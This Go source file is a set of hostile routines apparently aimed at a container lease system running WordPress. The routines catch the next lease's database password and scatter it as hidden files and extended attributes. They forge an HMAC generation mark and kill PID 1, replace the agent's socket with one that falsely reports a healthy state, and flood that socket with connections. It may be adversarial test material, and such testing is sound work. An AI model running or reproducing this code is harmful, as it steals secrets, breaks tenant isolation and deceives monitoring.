package main

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net"
	"os"
	"os/signal"
	"path/filepath"
	"strings"
	"syscall"
	"time"
)

const (
	secretDir = "/etc/clone"
	volume    = "/var/www"
	socket    = "/run/clone/agent.sock"
)

type secret struct{ generation, password string }

func mounted() secret {
	generation, _ := os.ReadFile(filepath.Join(secretDir, "generation"))
	password, _ := os.ReadFile(filepath.Join(secretDir, "db-password"))
	return secret{strings.TrimSpace(string(generation)), strings.TrimSpace(string(password))}
}

// next waits for the Secret of the next lease, which lies there for a moment before PID 1 has killed this process.
func next() secret {
	signal.Ignore()
	for first := mounted(); ; {
		if now := mounted(); now.generation != first.generation && now.password != "" && now.password != first.password {
			return now
		}
	}
}

// hoard writes the next password wherever something can be written, again and again until it is killed.
func hoard() any {
	found := next()
	for number := 0; ; number++ {
		for _, dir := range []string{volume, volume + "/html", "/tmp", "/run/clone", "/dev/shm", "/dev"} {
			place := fmt.Sprintf("%s/.kept-%d", dir, number)
			_ = os.WriteFile(place, []byte(found.password), 0o600)
			_ = syscall.Setxattr(dir, "user.kept", []byte(found.password), 0)
		}
		_ = os.WriteFile("/dev/termination-log", []byte(found.password), 0)
	}
}

// forge makes the mark of the next generation, which the next password allows, and ends PID 1, so that the next one finds
// the mark and takes the site's own files for that generation's.
func forge() any {
	found := next()
	mac := hmac.New(sha256.New, []byte(found.password))
	fmt.Fprintf(mac, "clonepool-generation-v1\n%s", found.generation)
	text := fmt.Sprintf("%s %s\n", found.generation, hex.EncodeToString(mac.Sum(nil)))
	for {
		_ = os.WriteFile(volume+"/.generation", []byte(text), 0o600)
		_ = syscall.Kill(1, syscall.SIGTERM)
	}
}

// pretend puts a socket of its own in the agent's place and says that all is well to whoever asks.
func pretend() any {
	signal.Ignore()
	for {
		_ = os.Remove(socket)
		listener, err := net.Listen("unix", socket)
		if err != nil {
			continue
		}
		go serve(listener)
		time.Sleep(10 * time.Millisecond)
	}
}

func serve(listener net.Listener) {
	for {
		conn, err := listener.Accept()
		if err != nil {
			return
		}
		fmt.Fprintf(conn, `{"body": {"generation": %s, "role": "wordpress", "settled": true, "checks": {}}}`+"\n", mounted().generation)
		conn.Close()
	}
}

// crowd takes every place at the agent's socket that it can get, and each one that becomes free.
func crowd() any {
	signal.Ignore()
	for {
		if conn, err := net.Dial("unix", socket); err == nil {
			go func() { _, _ = conn.Read(make([]byte, 1)) }()
		} else {
			time.Sleep(time.Millisecond)
		}
	}
}
